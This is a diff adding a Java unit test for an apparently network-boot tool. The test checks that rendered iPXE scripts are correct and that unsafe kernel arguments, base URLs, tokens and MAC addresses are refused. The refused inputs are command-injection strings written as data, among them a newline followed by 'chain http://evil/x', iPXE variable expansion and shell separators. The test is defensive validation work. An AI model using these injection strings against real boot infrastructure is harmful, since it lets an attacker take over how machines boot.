@@ -1,0 +1,111 @@
+package io.chrootbooter.operator.machine;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class IpxeScriptTest {
+  private static final String TOKEN = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
+
+  private static IpxeScript.Boot boot(List<String> kernelArgs) {
+    return new IpxeScript.Boot(
+        "lab",
+        "m1",
+        "http://10.0.0.1:8080",
+        "52:54:00:12:34:56",
+        TOKEN,
+        List.of("cb.image=http://10.0.0.1:8080/images/x.squashfs"),
+        List.of("console=ttyS0,115200n8"),
+        kernelArgs);
+  }
+
+  @Test
+  void scriptLoadsTheBootstrapWithTheMachinesIdentity() {
+    assertThat(IpxeScript.boot(boot(List.of("quiet", "systemd.unit=rescue.target"))))
+        .isEqualTo(
+            "#!ipxe\n"
+                + "# Chroot Booter: MachineBoot lab/m1\n"
+                + "kernel http://10.0.0.1:8080/bootstrap/vmlinuz initrd=initramfs"
+                + " cb.operator=http://10.0.0.1:8080 cb.mac=52:54:00:12:34:56 cb.token="
+                + TOKEN
+                + " BOOTIF=01-52-54-00-12-34-56"
+                + " cb.image=http://10.0.0.1:8080/images/x.squashfs console=ttyS0,115200n8 quiet"
+                + " systemd.unit=rescue.target\n"
+                + "initrd --name initramfs http://10.0.0.1:8080/bootstrap/initramfs\n"
+                + "boot\n");
+  }
+
+  /** The last line of defence: even a value that skipped validation is never rendered. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "quiet\nchain http://evil/x",
+        "${net0/mac}",
+        "a||b",
+        "a&&b",
+        "chain http://evil/",
+        "x y",
+        "--",
+        "\"q\"",
+        "a;b",
+        "a`b`",
+        "init\u2044bin\u2044sh",
+        "quiet\r",
+        ""
+      })
+  void unsafeKernelArgumentsAreRefused(String hostile) {
+    assertThatThrownBy(() -> boot(List.of(hostile)))
+        .isInstanceOf(IllegalArgumentException.class)
+        .hasMessage("refusing to render an iPXE script with an unsafe kernel argument");
+  }
+
+  @Test
+  void unsafeBaseUrlTokenAndMacAreRefused() {
+    assertThatThrownBy(
+            () ->
+                new IpxeScript.Boot(
+                    "lab",
+                    "m1",
+                    "http://h/${x}",
+                    "52:54:00:12:34:56",
+                    TOKEN,
+                    List.of(),
+                    List.of(),
+                    List.of()))
+        .hasMessageContaining("base URL");
+    assertThatThrownBy(
+            () ->
+                new IpxeScript.Boot(
+                    "lab",
+                    "m1",
+                    "http://h",
+                    "52:54:00:12:34:56",
+                    "a b",
+                    List.of(),
+                    List.of(),
+                    List.of()))
+        .hasMessageContaining("token");
+    assertThatThrownBy(
+            () ->
+                new IpxeScript.Boot(
+                    "lab",
+                    "m1",
+                    "http://h",
+                    "52-54-00-12-34-56",
+                    TOKEN,
+                    List.of(),
+                    List.of(),
+                    List.of()))
+        .hasMessageContaining("MAC");
+  }
+
+  @Test
+  void unknownMachinesExitToTheNextBootDevice() {
+    assertThat(IpxeScript.unknown("52:54:00:12:34:56"))
+        .isEqualTo("#!ipxe\necho Chroot Booter: no MachineBoot for 52:54:00:12:34:56\nexit 1\n");
+  }
+}
